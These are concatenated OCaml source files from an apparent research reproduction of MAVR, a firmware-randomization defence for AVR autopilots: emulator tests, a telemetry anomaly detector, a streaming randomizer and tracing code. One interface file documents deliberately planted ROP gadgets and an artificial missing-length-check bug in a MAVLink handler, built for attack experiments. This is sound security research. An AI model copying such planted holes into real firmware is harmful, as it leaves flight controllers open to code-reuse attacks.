  (* flash[0] = low byte of the first ldi encoding *)
  let expected = Char.code (Opcode.encode_bytes (Isa.Ldi (30, 0x00))).[0] in
  check_reg cpu 16 expected

let test_harvard_faults () =
  (* Erased flash beyond the program = illegal instruction halt. *)
  let cpu = load Isa.[ Nop; Nop ] in
  (match Cpu.run cpu ~max_cycles:100 with
  | `Halted (Cpu.Wild_pc _) -> ()
  | r -> Alcotest.failf "expected wild PC, got %s" (Helpers.run_result_to_string r));
  (* A ret into garbage halts too. *)
  let cpu = load (Isa.[ Ldi (16, 0xFF); Push 16; Push 16; Push 16; Ret ]) in
  match Cpu.run cpu ~max_cycles:1000 with
  | `Halted _ -> ()
  | r -> Alcotest.failf "expected halt, got %s" (Helpers.run_result_to_string r)

let test_uart_roundtrip () =
  (* Echo firmware: poll UCSRA bit7, read UDR, write it back. *)
  let insns =
    Isa.[
      In (24, Device.Io.ucsra); Andi (24, 0x80);
      Brbs (1, -3) (* breq back to start *);
      In (24, Device.Io.udr); Out (Device.Io.udr, 24);
      Rjmp (-6);
    ]
  in
  let cpu = load insns in
  Cpu.uart_send cpu "hello";
  ignore (Cpu.run cpu ~max_cycles:2_000);
  Alcotest.(check string) "echoed" "hello" (Cpu.uart_take_tx cpu);
  Alcotest.(check int) "rx drained" 0 (Cpu.uart_rx_pending cpu)

let test_watchdog_feed () =
  let cpu = load Isa.[ Ldi (16, 1); Out (Device.Io.wdt_feed, 16); Out (Device.Io.wdt_feed, 16); Break ] in
  run_all cpu;
  Alcotest.(check int) "two feeds" 2 (Cpu.watchdog_feeds cpu);
  Alcotest.(check bool) "feed timestamp" true (Cpu.last_feed_cycles cpu > 0)

let test_cycle_counts () =
  let cycles insns =
    let cpu = load insns in
    (* run to break, subtract break's own cycle *)
    run_all cpu;
    Cpu.cycles cpu - 1
  in
  Alcotest.(check int) "nop is 1" 1 (cycles Isa.[ Nop; Break ]);
  Alcotest.(check int) "push is 2" 2 (cycles Isa.[ Push 0; Break ]);
  Alcotest.(check int) "jmp is 3" 3 (cycles Isa.[ Jmp 2; Break ]);
  Alcotest.(check int) "call+ret = 10 (3-byte PC)" 10 (cycles Isa.[ Call 3; Break; Ret ]);
  Alcotest.(check int) "taken branch is 2" 3
    (cycles Isa.[ Cp (0, 0); Brbs (1, 0); Break ])

let test_skip_cycle_costs () =
  (* Datasheet costs for cpse/sbic/sbis: 1 cycle when not skipping,
     2 when skipping a 1-word instruction, 3 when skipping a 2-word
     one.  Step up to the skip instruction, then measure it alone. *)
  let skip_cost ~setup_steps insns =
    let cpu = load insns in
    for _ = 1 to setup_steps do Cpu.step cpu done;
    let c0 = Cpu.cycles cpu in
    Cpu.step cpu;
    Cpu.cycles cpu - c0
  in
  Alcotest.(check int) "cpse no skip" 1
    (skip_cost ~setup_steps:2 Isa.[ Ldi (16, 1); Ldi (17, 2); Cpse (16, 17); Nop; Break ]);
  Alcotest.(check int) "cpse skip 1-word" 2
    (skip_cost ~setup_steps:2 Isa.[ Ldi (16, 1); Ldi (17, 1); Cpse (16, 17); Nop; Break ]);
  Alcotest.(check int) "cpse skip 2-word" 3
    (skip_cost ~setup_steps:2
       Isa.[ Ldi (16, 1); Ldi (17, 1); Cpse (16, 17); Sts (0x500, 16); Break ]);
  (* I/O 0x15 is plain memory-backed: bit 0 starts clear. *)
  Alcotest.(check int) "sbic skip 1-word (bit clear)" 2
    (skip_cost ~setup_steps:0 Isa.[ Sbic (0x15, 0); Nop; Break ]);
  Alcotest.(check int) "sbic no skip" 1
    (skip_cost ~setup_steps:1 Isa.[ Sbi (0x15, 0); Sbic (0x15, 0); Nop; Break ]);
  Alcotest.(check int) "sbis no skip (bit clear)" 1
    (skip_cost ~setup_steps:0 Isa.[ Sbis (0x15, 0); Nop; Break ]);
  Alcotest.(check int) "sbis skip 2-word" 3
    (skip_cost ~setup_steps:1
       Isa.[ Sbi (0x15, 0); Sbis (0x15, 0); Sts (0x500, 16); Break ])

let test_reflash_clears_peripherals () =
  (* A reflash mid-receive must start the new lifetime clean: no pending
     RX bytes (a half-received attack payload would replay into the
     fresh image), no untaken TX, no inherited watchdog/interrupt
     tallies. *)
  let insns =
    Isa.[
      Ldi (16, 1); Out (Device.Io.wdt_feed, 16);
      In (24, Device.Io.udr); Out (Device.Io.udr, 24);
      Break;
    ]
  in
  let cpu = load insns in
  Cpu.uart_send cpu "attack-payload";
  run_all cpu;
  Alcotest.(check bool) "rx pending before reflash" true (Cpu.uart_rx_pending cpu > 0);
  Alcotest.(check bool) "feeds counted" true (Cpu.watchdog_feeds cpu > 0);
  (* Reflash (same image, fresh lifetime) while bytes are still queued. *)
  Cpu.load_program cpu (String.concat "" (List.map Opcode.encode_bytes insns));
  Alcotest.(check int) "rx drained" 0 (Cpu.uart_rx_pending cpu);
  Alcotest.(check string) "tx cleared" "" (Cpu.uart_take_tx cpu);
  Alcotest.(check int) "feeds zeroed" 0 (Cpu.watchdog_feeds cpu);
  Alcotest.(check int) "interrupts zeroed" 0 (Cpu.interrupts_taken cpu);
  (* The fresh lifetime reads zeroes from the UART, not old bytes. *)
  run_all cpu;
  Alcotest.(check string) "fresh lifetime echoes silence" "\x00" (Cpu.uart_take_tx cpu)

let test_reset_preserves_memory () =
  let cpu = load Isa.[ Ldi (16, 7); Sts (0x600, 16); Break ] in
  run_all cpu;
  Cpu.reset cpu;
  Alcotest.(check int) "PC reset" 0 (Cpu.pc cpu);
  Alcotest.(check int) "cycles reset" 0 (Cpu.cycles cpu);
  Alcotest.(check bool) "halt cleared" true (Cpu.halted cpu = None);
  Alcotest.(check int) "SRAM preserved" 7 (Cpu.data_peek cpu 0x600)

let () =
  Alcotest.run "cpu"
    [
      ( "alu",
        [
          Alcotest.test_case "ldi/mov/add" `Quick test_ldi_mov_add;
          Alcotest.test_case "add carry" `Quick test_add_carry_flags;
          Alcotest.test_case "sub zero flag" `Quick test_sub_zero_flag;
          Alcotest.test_case "16-bit adc chain" `Quick test_adc_16bit_chain;
          Alcotest.test_case "logic" `Quick test_logic_ops;
          Alcotest.test_case "shifts" `Quick test_shifts;
          Alcotest.test_case "swap/com/neg" `Quick test_swap_com_neg;
          Alcotest.test_case "mul" `Quick test_mul;
        ] );
      ( "control",
        [
          Alcotest.test_case "stack push/pop" `Quick test_stack_push_pop;
          Alcotest.test_case "SP memory-mapped" `Quick test_sp_memory_mapped;
          Alcotest.test_case "call/ret 3-byte PC" `Quick test_call_ret_3byte;
          Alcotest.test_case "icall" `Quick test_rcall_icall;
          Alcotest.test_case "branches" `Quick test_branches;
          Alcotest.test_case "cpse skips 2-word" `Quick test_cpse_skips_two_word;
          Alcotest.test_case "skip cycle costs" `Quick test_skip_cycle_costs;
        ] );
      ( "memory",
        [
          Alcotest.test_case "lds/sts/ld" `Quick test_data_space_ld_st;
          Alcotest.test_case "std/ldd/pointers" `Quick test_displacement_and_pointers;
          Alcotest.test_case "registers memory-mapped" `Quick test_registers_memory_mapped;
          Alcotest.test_case "lpm reads flash" `Quick test_lpm_reads_flash;
          Alcotest.test_case "Harvard faults" `Quick test_harvard_faults;
        ] );
      ( "peripherals",
        [
          Alcotest.test_case "uart echo" `Quick test_uart_roundtrip;
          Alcotest.test_case "watchdog feed" `Quick test_watchdog_feed;
          Alcotest.test_case "cycle accounting" `Quick test_cycle_counts;
          Alcotest.test_case "reset semantics" `Quick test_reset_preserves_memory;
          Alcotest.test_case "reflash clears peripherals" `Quick test_reflash_clears_peripherals;
        ] );
    ]
