module Parser = Mavr_mavlink.Parser
module Frame = Mavr_mavlink.Frame
module Messages = Mavr_mavlink.Messages

type alarm =
  | Heartbeat_lost of { silent_ms : float }
  | Telemetry_silence of { silent_ms : float }
  | Link_corruption of { crc_errors : int; bytes_dropped : int }
  | Unexpected_reboot of { seq_jump : int }

let alarm_key = function
  | Heartbeat_lost _ -> "heartbeat_lost"
  | Telemetry_silence _ -> "telemetry_silence"
  | Link_corruption _ -> "link_corruption"
  | Unexpected_reboot _ -> "unexpected_reboot"

let pp_alarm fmt = function
  | Heartbeat_lost { silent_ms } -> Format.fprintf fmt "heartbeat lost (%.0f ms silent)" silent_ms
  | Telemetry_silence { silent_ms } -> Format.fprintf fmt "telemetry silence (%.0f ms)" silent_ms
  | Link_corruption { crc_errors; bytes_dropped } ->
      Format.fprintf fmt "link corruption (%d CRC errors, %d bytes dropped)" crc_errors bytes_dropped
  | Unexpected_reboot { seq_jump } -> Format.fprintf fmt "unexpected reboot (seq jump %d)" seq_jump

type t = {
  parser : Parser.t;
  heartbeat_timeout_ms : float;
  telemetry_timeout_ms : float;
  mutable last_heartbeat_ms : float;
  mutable last_frame_ms : float;
  mutable started : bool;
  mutable last_seq : int option;
  mutable alarms : alarm list;
  mutable reported_corruption : int;
  mutable silent_latched : bool;
  mutable hb_latched : bool;
  mutable last_gyro : int option;
  mutable last_accel : int option;
  mutable frames : int;
  mutable heartbeats : int;
}

let create ?(heartbeat_timeout_ms = 3000.0) ?(telemetry_timeout_ms = 1000.0) () =
  {
    parser = Parser.create ();
    heartbeat_timeout_ms;
    telemetry_timeout_ms;
    last_heartbeat_ms = 0.0;
    last_frame_ms = 0.0;
    started = false;
    last_seq = None;
    alarms = [];
    reported_corruption = 0;
    silent_latched = false;
    hb_latched = false;
    last_gyro = None;
    last_accel = None;
    frames = 0;
    heartbeats = 0;
  }

let raise_alarm t a = t.alarms <- a :: t.alarms

let on_frame t ~now_ms (f : Frame.t) =
  t.frames <- t.frames + 1;
  t.last_frame_ms <- now_ms;
  t.started <- true;
  (match t.last_seq with
  | Some prev ->
      let expected = (prev + 1) land 0xFF in
      (* The transmitter resets its sequence counter on reboot; a jump
         back near zero after an established stream is a reboot tell. *)
      if f.seq <> expected && f.seq < 3 && prev > 10 then
        raise_alarm t (Unexpected_reboot { seq_jump = prev - f.seq })
  | None -> ());
  t.last_seq <- Some f.seq;
  if f.msgid = Messages.heartbeat.msgid then begin
    t.heartbeats <- t.heartbeats + 1;
    t.last_heartbeat_ms <- now_ms
  end;
  if f.msgid = Messages.raw_imu.msgid then
    match Messages.Raw_imu.decode f.payload with
    | Ok imu ->
        t.last_gyro <- Some (imu.xgyro land 0xFFFF);
        t.last_accel <- Some (imu.xacc land 0xFFFF)
    | Error _ -> ()

let feed t ~now_ms bytes =
  let frames = Parser.feed t.parser bytes in
  List.iter (on_frame t ~now_ms) frames

let check t ~now_ms =
  let before = t.alarms in
  if t.started then begin
    (* The two timeout alarms are independent watchdogs, each
       edge-triggered (one alarm per episode).  Evaluating them in
       lock-step matters: heartbeats stopping while other telemetry
       still flows is exactly the partial-failure signature a nested
       check would miss — and a latched silence episode must not stop
       the heartbeat clock from being re-armed when frames resume. *)
    if now_ms -. t.last_frame_ms > t.telemetry_timeout_ms then begin
      if not t.silent_latched then begin
        t.silent_latched <- true;
        raise_alarm t (Telemetry_silence { silent_ms = now_ms -. t.last_frame_ms })
      end
    end
    else t.silent_latched <- false;
    if t.heartbeats > 0 && now_ms -. t.last_heartbeat_ms > t.heartbeat_timeout_ms then begin
      if not t.hb_latched then begin
        t.hb_latched <- true;
        raise_alarm t (Heartbeat_lost { silent_ms = now_ms -. t.last_heartbeat_ms })
      end
    end
    else t.hb_latched <- false;
    let stats = Parser.stats t.parser in
    let corruption = stats.crc_errors + stats.bytes_dropped in
    if corruption > t.reported_corruption then begin
      t.reported_corruption <- corruption;
      raise_alarm t
        (Link_corruption { crc_errors = stats.crc_errors; bytes_dropped = stats.bytes_dropped })
    end
  end;
  let rec fresh acc l = if l == before then List.rev acc else
      match l with [] -> List.rev acc | x :: tl -> fresh (x :: acc) tl
  in
  fresh [] t.alarms

let alarms t = List.rev t.alarms
let attack_suspected t = t.alarms <> []

let attach_metrics ?(prefix = "gcs") t registry =
  let module M = Mavr_telemetry.Metrics in
  let name s = prefix ^ "." ^ s in
  M.sampled registry (name "frames") (fun () -> t.frames);
  M.sampled registry (name "heartbeats") (fun () -> t.heartbeats);
  M.sampled registry (name "alarms") (fun () -> List.length t.alarms);
  Parser.attach_metrics ~prefix:(name "link") t.parser registry
let last_gyro_raw t = t.last_gyro
let last_accel_raw t = t.last_accel
let frames_received t = t.frames
let heartbeats_received t = t.heartbeats
