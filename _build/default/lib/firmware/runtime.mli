(** The hand-written autopilot runtime kernel (AVR assembly).

    Implements the fixed part of every generated firmware: reset and data
    initialization, the main control loop with watchdog feeds, a complete
    MAVLink v1 receive state machine with CRC checking, telemetry
    transmission, sensor sampling, vtable dispatch — and, deliberately,
    the paper's two gadgets:

    - the PARAM_SET handler's frame teardown is byte-for-byte the Fig. 4
      [stk_move] gadget ([out 0x3e,r29; out 0x3f,r0; out 0x3d,r28;
      pop r28; pop r29; pop r16; ret]);
    - [param_store]'s tail is byte-for-byte the Fig. 5 [write_mem_gadget]
      ([std Y+1..Y+3; sixteen pops; ret]).

    The handler's payload copy omits the MAVLink length check when the
    toolchain is [vulnerable] — the artificial bug of §IV-B. *)

(** Names of runtime functions, in layout order. *)
val function_names : string list

(** [vectors ()] is the interrupt vector table plus the early-flash
    rodata (.data initializer and the CRC_EXTRA table, kept below 64 KB so
    16-bit [lpm] reaches them). *)
val vectors : unit -> Mavr_asm.Assembler.item list

(** [functions ~toolchain ~roots ()] is the kernel's function list;
    [roots] are the generated functions the control step calls. *)
val functions :
  toolchain:Profile.toolchain -> roots:string list -> unit -> Mavr_asm.Assembler.func list

(** [defines] : the SRAM address constants used by the kernel. *)
val defines : (string * int) list

(** Labels of interest to tests and the attack builder (resolved after
    assembly via {!Mavr_asm.Assembler.label_value}). *)
val label_copy_loop : string
(** Inside the vulnerable copy loop of the PARAM_SET handler. *)

val label_stk_move : string
(** First instruction of the Fig. 4 teardown/gadget. *)

val label_write_mem : string
(** First [std] of the Fig. 5 gadget. *)

val label_write_mem_pops : string
(** The gadget's pop run (the "second half" the attack enters first). *)
