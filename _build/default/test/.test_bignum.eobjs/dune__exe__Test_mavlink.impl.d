test/test_mavlink.ml: Alcotest Array Bytes Char Float Format Helpers List Mavr_mavlink Printf QCheck String
