type clock = { wall : unit -> float; cpu : unit -> float }
type time_domain = Host | Cycles

type ev = {
  e_name : string;
  e_instant : bool;
  e_ts : float;  (* µs since tracer epoch (Host) or absolute cycles (Cycles) *)
  e_dur : float;
  e_cpu : float;  (* cpu µs (Host only; 0 in Cycles lanes) *)
  e_depth : int;
  e_args : (string * Json.t) list;
}

(* name, wall-µs at begin, cpu-µs at begin, args *)
type open_span = { o_name : string; o_t0 : float; o_c0 : float; o_args : (string * Json.t) list }

type lane = {
  l_name : string;
  l_sort : int;
  l_domain : time_domain;
  l_tracer : tracer;
  mutable l_events : ev list;  (* newest first *)
  mutable l_count : int;
  mutable l_stack : open_span list;
}

and tracer = {
  clock : clock;
  epoch : float;
  mutex : Mutex.t;
  lanes : (string, lane) Hashtbl.t;
}

let default_clock = { wall = Sys.time; cpu = Sys.time }

let create ?(clock = default_clock) () =
  { clock; epoch = clock.wall (); mutex = Mutex.create (); lanes = Hashtbl.create 64 }

let lane t ?(sort = 0) ?(domain = Host) name =
  Mutex.lock t.mutex;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock t.mutex)
    (fun () ->
      match Hashtbl.find_opt t.lanes name with
      | Some l ->
          if l.l_domain <> domain then
            invalid_arg
              (Printf.sprintf "Telemetry.Span.lane: %S already exists in the other time domain"
                 name);
          l
      | None ->
          let l =
            {
              l_name = name;
              l_sort = sort;
              l_domain = domain;
              l_tracer = t;
              l_events = [];
              l_count = 0;
              l_stack = [];
            }
          in
          Hashtbl.add t.lanes name l;
          l)

let lane_name l = l.l_name
let lane_domain l = l.l_domain

let push l e =
  l.l_events <- e :: l.l_events;
  l.l_count <- l.l_count + 1

let require l domain op =
  if l.l_domain <> domain then
    invalid_arg
      (Printf.sprintf "Telemetry.Span.%s: lane %S is in the %s domain" op l.l_name
         (match l.l_domain with Host -> "Host" | Cycles -> "Cycles"))

let wall_us l = (l.l_tracer.clock.wall () -. l.l_tracer.epoch) *. 1e6
let cpu_us l = l.l_tracer.clock.cpu () *. 1e6

let begin_span l ?(args = []) name =
  require l Host "begin_span";
  l.l_stack <- { o_name = name; o_t0 = wall_us l; o_c0 = cpu_us l; o_args = args } :: l.l_stack

let end_span l =
  require l Host "end_span";
  match l.l_stack with
  | [] -> invalid_arg (Printf.sprintf "Telemetry.Span.end_span: no open span on lane %S" l.l_name)
  | o :: rest ->
      l.l_stack <- rest;
      push l
        {
          e_name = o.o_name;
          e_instant = false;
          e_ts = o.o_t0;
          e_dur = wall_us l -. o.o_t0;
          e_cpu = cpu_us l -. o.o_c0;
          e_depth = List.length rest;
          e_args = o.o_args;
        }

let span l ?args name f =
  begin_span l ?args name;
  Fun.protect ~finally:(fun () -> end_span l) f

let instant l ?(args = []) name =
  require l Host "instant";
  push l
    {
      e_name = name;
      e_instant = true;
      e_ts = wall_us l;
      e_dur = 0.;
      e_cpu = 0.;
      e_depth = List.length l.l_stack;
      e_args = args;
    }

let cycle_instant l ~cycle ?(args = []) name =
  require l Cycles "cycle_instant";
  push l
    {
      e_name = name;
      e_instant = true;
      e_ts = float_of_int cycle;
      e_dur = 0.;
      e_cpu = 0.;
      e_depth = List.length l.l_stack;
      e_args = args;
    }

let cycle_span l ~begin_cycle ~end_cycle ?(args = []) name =
  require l Cycles "cycle_span";
  push l
    {
      e_name = name;
      e_instant = false;
      e_ts = float_of_int begin_cycle;
      e_dur = float_of_int (end_cycle - begin_cycle);
      e_cpu = 0.;
      e_depth = List.length l.l_stack;
      e_args = args;
    }

(* Fold a recorder window into complete spans: begins go on a stack,
   an end pops the nearest begin with the same name (recorder spans
   nest, but fault paths can drop an end).  Depth is the stack depth at
   the begin, so nesting survives the translation. *)
let of_recorder l events =
  require l Cycles "of_recorder";
  let stack = ref [] in
  let pop name =
    let rec go acc = function
      | [] -> None
      | ((n, _, _, _) as x) :: rest when n = name ->
          stack := List.rev_append acc rest;
          Some x
      | x :: rest -> go (x :: acc) rest
    in
    go [] !stack
  in
  List.iter
    (fun (e : Recorder.event) ->
      match e.kind with
      | Recorder.Point ->
          cycle_instant l ~cycle:e.cycle ~args:[ ("value", Json.Int e.value) ] e.name
      | Recorder.Span_begin ->
          stack := (e.name, e.cycle, e.value, List.length !stack) :: !stack
      | Recorder.Span_end -> (
          match pop e.name with
          | None ->
              cycle_instant l ~cycle:e.cycle
                ~args:[ ("value", Json.Int e.value) ]
                (e.name ^ ".end")
          | Some (name, c0, v0, depth) ->
              push l
                {
                  e_name = name;
                  e_instant = false;
                  e_ts = float_of_int c0;
                  e_dur = float_of_int (e.cycle - c0);
                  e_cpu = 0.;
                  e_depth = depth;
                  e_args = [ ("value", Json.Int v0) ];
                }))
    events;
  List.iter
    (fun (name, c0, v0, _) ->
      cycle_instant l ~cycle:c0 ~args:[ ("value", Json.Int v0) ] (name ^ ".begin"))
    (List.rev !stack)

(* ---- deterministic export order ------------------------------------- *)

let domain_rank = function Host -> 0 | Cycles -> 1

let sorted_lanes t =
  Mutex.lock t.mutex;
  let ls = Hashtbl.fold (fun _ l acc -> l :: acc) t.lanes [] in
  Mutex.unlock t.mutex;
  List.sort
    (fun a b ->
      let c = compare (domain_rank a.l_domain) (domain_rank b.l_domain) in
      if c <> 0 then c
      else
        let c = compare a.l_sort b.l_sort in
        if c <> 0 then c else compare a.l_name b.l_name)
    ls

let lane_events l = List.rev l.l_events

type view = {
  v_lane : string;
  v_domain : time_domain;
  v_name : string;
  v_instant : bool;
  v_depth : int;
  v_args : (string * Json.t) list;
}

let views t =
  List.concat_map
    (fun l ->
      List.map
        (fun e ->
          {
            v_lane = l.l_name;
            v_domain = l.l_domain;
            v_name = e.e_name;
            v_instant = e.e_instant;
            v_depth = e.e_depth;
            v_args = e.e_args;
          })
        (lane_events l))
    (sorted_lanes t)

let event_count t =
  Mutex.lock t.mutex;
  let n = Hashtbl.fold (fun _ l acc -> acc + l.l_count) t.lanes 0 in
  Mutex.unlock t.mutex;
  n

let lane_count t =
  Mutex.lock t.mutex;
  let n = Hashtbl.length t.lanes in
  Mutex.unlock t.mutex;
  n

let merge ~into src =
  List.iter
    (fun sl ->
      let dl = lane into ~sort:sl.l_sort ~domain:sl.l_domain sl.l_name in
      List.iter (fun e -> push dl e) (lane_events sl))
    (sorted_lanes src)

(* ---- lane (de)serialization ------------------------------------------ *)

(* Checkpoint persistence for a completed lane.  Host wall-clock timing
   (ts/dur/cpu) is dropped at serialization: the checkpoint feeds the
   deterministic-resume contract, and only the timing-stripped form of a
   Host lane is jobs-invariant — so a restored Host event carries zeros,
   exactly what --strip would have produced.  Cycles lanes persist their
   exact integer timestamps.  Open spans are not serialized; only
   completed lanes belong in a checkpoint. *)
let lane_to_json l =
  let ev_json (e : ev) =
    let time =
      match l.l_domain with
      | Host -> []
      | Cycles ->
          ("ts", Json.Int (int_of_float e.e_ts))
          :: (if e.e_instant then [] else [ ("dur", Json.Int (int_of_float e.e_dur)) ])
    in
    Json.Obj
      (("name", Json.String e.e_name)
       :: (if e.e_instant then [ ("i", Json.Bool true) ] else [])
      @ time
      @ [ ("depth", Json.Int e.e_depth) ]
      @ (if e.e_args = [] then [] else [ ("args", Json.Obj e.e_args) ]))
  in
  Json.Obj
    [
      ("name", Json.String l.l_name);
      ("sort", Json.Int l.l_sort);
      ("domain", Json.String (match l.l_domain with Host -> "host" | Cycles -> "cycles"));
      ("events", Json.List (List.map ev_json (lane_events l)));
    ]

let lane_of_json t j =
  let field name conv j =
    match Option.bind (Json.member name j) conv with
    | Some v -> Ok v
    | None -> Error (Printf.sprintf "Span.lane_of_json: missing or malformed %S" name)
  in
  let ( let* ) = Result.bind in
  let* name = field "name" Json.to_str j in
  let* sort = field "sort" Json.to_int j in
  let* domain =
    match Option.bind (Json.member "domain" j) Json.to_str with
    | Some "host" -> Ok Host
    | Some "cycles" -> Ok Cycles
    | _ -> Error "Span.lane_of_json: missing or unknown domain"
  in
  let* events =
    match Json.member "events" j with
    | Some (Json.List evs) -> Ok evs
    | _ -> Error "Span.lane_of_json: missing events list"
  in
  let* l =
    match lane t ~sort ~domain name with
    | l -> Ok l
    | exception Invalid_argument m -> Error m
  in
  let rec go = function
    | [] -> Ok l
    | ej :: rest ->
        let* e_name = field "name" Json.to_str ej in
        let* e_depth = field "depth" Json.to_int ej in
        let e_instant = Json.member "i" ej = Some (Json.Bool true) in
        let e_args = match Json.member "args" ej with Some (Json.Obj kvs) -> kvs | _ -> [] in
        let* e_ts, e_dur =
          match domain with
          | Host -> Ok (0., 0.)
          | Cycles ->
              let* ts = field "ts" Json.to_int ej in
              if e_instant then Ok (float_of_int ts, 0.)
              else
                let* dur = field "dur" Json.to_int ej in
                Ok (float_of_int ts, float_of_int dur)
        in
        push l { e_name; e_instant; e_ts; e_dur; e_cpu = 0.; e_depth; e_args };
        go rest
  in
  go events

(* ---- export ---------------------------------------------------------- *)

(* Timestamps: Host lanes are wall-µs floats (stripped to Int 0 for the
   jobs-invariance byte-diff); Cycles lanes are integer cycle counts,
   deterministic, emitted as Ints and never stripped. *)
let ts_json ~strip l v =
  match l.l_domain with
  | Cycles -> Json.Int (int_of_float v)
  | Host -> if strip then Json.Int 0 else Json.Float v

let host_pid = 1
let cycles_pid = 2
let pid_of = function Host -> host_pid | Cycles -> cycles_pid

let meta ~pid ~tid name args =
  Json.Obj
    [
      ("name", Json.String name);
      ("ph", Json.String "M");
      ("pid", Json.Int pid);
      ("tid", Json.Int tid);
      ("args", Json.Obj args);
    ]

let to_trace_event ?(strip_timing = false) t =
  let lanes = sorted_lanes t in
  let have d = List.exists (fun l -> l.l_domain = d) lanes in
  let procs =
    List.concat_map
      (fun (d, name) ->
        if not (have d) then []
        else
          [
            meta ~pid:(pid_of d) ~tid:0 "process_name" [ ("name", Json.String name) ];
            meta ~pid:(pid_of d) ~tid:0 "process_sort_index"
              [ ("sort_index", Json.Int (domain_rank d)) ];
          ])
      [ (Host, "host"); (Cycles, "cycles") ]
  in
  let threads =
    List.concat (List.mapi
      (fun i l ->
        let tid = i + 1 in
        [
          meta ~pid:(pid_of l.l_domain) ~tid "thread_name" [ ("name", Json.String l.l_name) ];
          meta ~pid:(pid_of l.l_domain) ~tid "thread_sort_index" [ ("sort_index", Json.Int i) ];
        ])
      lanes)
  in
  let events =
    List.concat (List.mapi
      (fun i l ->
        let tid = i + 1 in
        let strip = strip_timing in
        List.map
          (fun e ->
            let base =
              [
                ("name", Json.String e.e_name);
                ("cat", Json.String "mavr");
                ("pid", Json.Int (pid_of l.l_domain));
                ("tid", Json.Int tid);
                ("ts", ts_json ~strip l e.e_ts);
              ]
            in
            let args =
              ("depth", Json.Int e.e_depth)
              ::
              (match l.l_domain with
              | Cycles -> e.e_args
              | Host ->
                  if e.e_instant then e.e_args
                  else
                    ("cpu_dur_us", if strip then Json.Int 0 else Json.Float e.e_cpu) :: e.e_args)
            in
            if e.e_instant then
              Json.Obj
                (base @ [ ("ph", Json.String "i"); ("s", Json.String "t"); ("args", Json.Obj args) ])
            else
              Json.Obj
                (base
                @ [
                    ("ph", Json.String "X");
                    ("dur", ts_json ~strip l e.e_dur);
                    ("args", Json.Obj args);
                  ]))
          (lane_events l))
      lanes)
  in
  Json.Obj
    [
      ("traceEvents", Json.List (procs @ threads @ events));
      ("displayTimeUnit", Json.String "ms");
    ]

let to_jsonl ?(strip_timing = false) t =
  let b = Buffer.create 1024 in
  let seq = ref 0 in
  List.iter
    (fun l ->
      let strip = strip_timing in
      List.iter
        (fun e ->
          incr seq;
          let fields =
            [
              ("seq", Json.Int !seq);
              ("lane", Json.String l.l_name);
              ("domain", Json.String (match l.l_domain with Host -> "host" | Cycles -> "cycles"));
              ("ph", Json.String (if e.e_instant then "i" else "X"));
              ("name", Json.String e.e_name);
              ("depth", Json.Int e.e_depth);
              ("ts", ts_json ~strip l e.e_ts);
            ]
            @ (if e.e_instant then []
               else
                 [ ("dur", ts_json ~strip l e.e_dur) ]
                 @
                 match l.l_domain with
                 | Cycles -> []
                 | Host -> [ ("cpu", (if strip then Json.Int 0 else Json.Float e.e_cpu)) ])
            @ if e.e_args = [] then [] else [ ("args", Json.Obj e.e_args) ]
          in
          Buffer.add_string b (Json.to_string (Json.Obj fields));
          Buffer.add_char b '\n')
        (lane_events l))
    (sorted_lanes t);
  Buffer.contents b
