(** Streaming randomization — the master processor's actual execution
    model (§VI-B3).

    The ATmega1284P cannot hold a 256 KB application in its 16 KB SRAM.
    The paper's randomizer therefore streams: "since the external flash
    memory permits random access, each function can be processed in a
    streaming fashion, eliminating the need to fit the entire application
    into volatile memory at runtime".

    This module reproduces that discipline.  Input is a random-access
    byte oracle (the external flash chip) plus the preprocessed metadata;
    output is emitted page by page to the application processor's
    bootloader.  The working set is only:

    - the function table (old starts + assigned new starts),
    - the function-pointer location list,
    - one function block at a time,
    - one flash page buffer,

    and its peak is measured and returned, so tests can assert the whole
    pipeline fits the master's SRAM for every application profile. *)

type stats = {
  peak_working_set : int;  (** bytes of live buffers at the worst moment *)
  bytes_read : int;  (** total bytes pulled from the external flash *)
  pages_emitted : int;  (** flash pages programmed on the application CPU *)
}

(** [run ~code_size ~read ~meta ~order ~page_bytes ~emit_page] streams the
    randomized binary.

    [read ~pos ~len] serves bytes of the {e original} image (the external
    chip's random-access interface).  [order] is the permutation: the
    function placed k-th in the new layout is the [order.(k)]-th of
    [meta.func_addrs].  Pages are emitted in ascending address order,
    the last one padded with 0xFF.

    @raise Patch.Unpatchable on cross-block relative transfers (images
    built without [--no-relax]).
    @raise Invalid_argument if [order] is not a permutation. *)
val run :
  code_size:int ->
  read:(pos:int -> len:int -> string) ->
  meta:Mavr_obj.Symtab.meta ->
  order:int array ->
  page_bytes:int ->
  emit_page:(page_addr:int -> string -> unit) ->
  stats

(** [randomize_image ~seed image ~page_bytes] — convenience wrapper: runs
    the streaming pipeline over an in-memory image (standing in for the
    external chip) and reassembles the emitted pages.  Returns the
    randomized image (with symbols recomputed) and the stats.  The result
    is byte-identical to {!Randomize.randomize} with the same seed — this
    equivalence is property-tested. *)
val randomize_image :
  seed:int -> Mavr_obj.Image.t -> page_bytes:int -> Mavr_obj.Image.t * stats

(** [randomize_image_rng ~rng image ~page_bytes] — like
    {!randomize_image} but drawing the permutation from a live generator
    (the master processor's entropy state across re-randomizations). *)
val randomize_image_rng :
  rng:Mavr_prng.Splitmix.t -> Mavr_obj.Image.t -> page_bytes:int -> Mavr_obj.Image.t * stats
