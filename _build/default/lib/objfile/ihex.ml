exception Parse_error of { line : int; message : string }

let parse_error line fmt = Printf.ksprintf (fun message -> raise (Parse_error { line; message })) fmt

let record buf ~addr ~rtype data =
  let len = String.length data in
  let sum = ref (len + ((addr lsr 8) land 0xFF) + (addr land 0xFF) + rtype) in
  Buffer.add_char buf ':';
  Buffer.add_string buf (Printf.sprintf "%02X%04X%02X" len (addr land 0xFFFF) rtype);
  String.iter
    (fun c ->
      sum := !sum + Char.code c;
      Buffer.add_string buf (Printf.sprintf "%02X" (Char.code c)))
    data;
  Buffer.add_string buf (Printf.sprintf "%02X\n" ((0x100 - (!sum land 0xFF)) land 0xFF))

let encode segments =
  let buf = Buffer.create 4096 in
  let upper = ref 0 in
  let emit_data addr data =
    let n = String.length data in
    let pos = ref 0 in
    while !pos < n do
      let a = addr + !pos in
      let hi = a lsr 16 in
      if hi <> !upper then begin
        upper := hi;
        record buf ~addr:0 ~rtype:4 (Printf.sprintf "%c%c" (Char.chr ((hi lsr 8) land 0xFF)) (Char.chr (hi land 0xFF)))
      end;
      (* Do not let a record cross a 64 KB boundary. *)
      let chunk = min 16 (min (n - !pos) (0x10000 - (a land 0xFFFF))) in
      record buf ~addr:(a land 0xFFFF) ~rtype:0 (String.sub data !pos chunk);
